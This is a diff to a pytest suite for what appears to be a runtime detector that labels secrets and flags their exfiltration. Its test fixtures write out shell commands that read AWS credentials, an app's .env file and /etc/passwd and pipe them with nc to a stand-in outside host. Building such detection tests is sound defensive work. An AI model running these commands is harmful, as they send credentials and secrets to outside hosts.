@@ -7,9 +7,12 @@ from collections.abc import Iterator
 
 import pytest
 
+from hullwatch.detect.ruleset import load
 from support.agent import PACK, Agent
 from support.attacks import Attack
 from support.attacks.driven import done, drive
+from support.cli import cli
+from support.conformance import record
 from support.images import Image
 from support.needs import missing
 from support.recording import Recording
@@ -29,24 +32,28 @@ ACTS: dict[str, tuple[str, dict[str, str]]] = {
     "trifecta": (TALK.format("203.0.113.9") + KEY + TALK.format("203.0.113.7"), {TRIFECTA: OUT}),
     "earlier": (
         TALK.format("203.0.113.9")
-        + 'link = socket.create_connection(("203.0.113.7", 443))\n'
+        + 'server = socket.create_server(("203.0.113.7", 4443))\n'
+        + 'link = socket.create_connection(("203.0.113.7", 4443))\n'
         + KEY
         + 'link.sendall(b"x")',
-        {TRIFECTA: OUT},
+        {TRIFECTA: "203.0.113.7:4443"},
     ),
     "piped": (
-        'run("/bin/sh", "-c", "cat /srv/app/.env | (cat; sleep 1) | nc 203.0.113.7 4444")',
+        'run("/bin/sh", "-c", "x=$(/bin/cat /srv/app/.env); echo $x | /bin/nc 203.0.113.7 4444")',
         {CARRIED: "203.0.113.7:4444"},
     ),
     "by-a-file": (
-        'run("/bin/sh", "-c", "cp /root/.aws/credentials /tmp/x")\n'
-        'run("/bin/sh", "-c", "nc 203.0.113.7 4444 < /tmp/x")',
+        'run("/bin/sh", "-c", "/bin/cp /root/.aws/credentials /tmp/x")\n'
+        'run("/bin/sh", "-c", "/bin/nc 203.0.113.7 4444 < /tmp/x")',
         {CARRIED: "203.0.113.7:4444"},
     ),
     "key-and-provider": (KEY + TALK.format("203.0.113.7"), {}),
     "no-key": (TALK.format("203.0.113.9") + TALK.format("203.0.113.7"), {}),
     "inside": (TALK.format("203.0.113.9") + KEY + TALK.format("127.0.0.1"), {}),
-    "plain-pipe": ('run("/bin/sh", "-c", "cat /etc/passwd | nc 203.0.113.7 4444")', {}),
+    "plain-pipe": (
+        'run("/bin/sh", "-c", "x=$(/bin/cat /etc/passwd); echo $x | /bin/nc 203.0.113.7 4444")',
+        {},
+    ),
 }
 Found = dict[str, dict[str, set[str]]]
 
@@ -83,3 +90,43 @@ def found(
         for rule, ident, object_ in recording.findings([PACK])[0]:
             if ident in names:
                 replayed[names[ident]].setdefault(rule, set()).add(object_)
+        yield live, replayed, agent
+
+
+def of_labels(one: dict[str, set[str]]) -> dict[str, set[str]]:
+    return {rule: objects for rule, objects in one.items() if rule in (TRIFECTA, CARRIED)}
+
+
+def test_every_rule_about_labels_is_here():
+    rules = {rule.name for rule in load([PACK]).rules if "hw.labels" in rule.sources}
+    assert rules == {TRIFECTA, CARRIED} == {rule for _, met in ACTS.values() for rule in met}
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_what_is_found_live_and_in_a_recording(found: tuple[Found, Found, Agent], name: str):
+    live, replayed, _ = found
+    expected = {rule: {object_} for rule, object_ in ACTS[name][1].items()}
+    for rule in (TRIFECTA, CARRIED):
+        good = of_labels(live[name]).get(rule, set()) == expected.get(rule, set())
+        again = of_labels(replayed[name]).get(rule, set()) == expected.get(rule, set())
+        what = {"live": good} if rule in expected else {"near_miss": good}
+        record("own", rule, loads=True, replay=again, reason="", **what)
+    assert of_labels(live[name]) == expected
+    assert of_labels(replayed[name]) == expected
+
+
+def test_the_way_of_a_label_is_told(found: tuple[Found, Found, Agent]):
+    _, _, agent = found
+    agent.settle()
+    steps = cli(agent.store, "labels", "--container", "by-a-file", "--label", "secret")
+    first = next(one for one in steps if one["object"] == "/root/.aws/credentials")
+    assert first["way"] == "took" and not first["came_by"]
+    last = [one for one in steps if one["object"] == "/tmp/x" and one["way"] == "took"]
+    assert last and last[-1]["came_by"][0] == "/root/.aws/credentials"
+
+
+def test_nobody_outside_got_a_label(found: tuple[Found, Found, Agent]):
+    _, _, agent = found
+    assert {one["workload"] for one in cli(agent.store, "labels")} <= set(ACTS)
+    status = agent.status()
+    assert status is not None and (status["losses"], status["faults"]) == ({}, {})
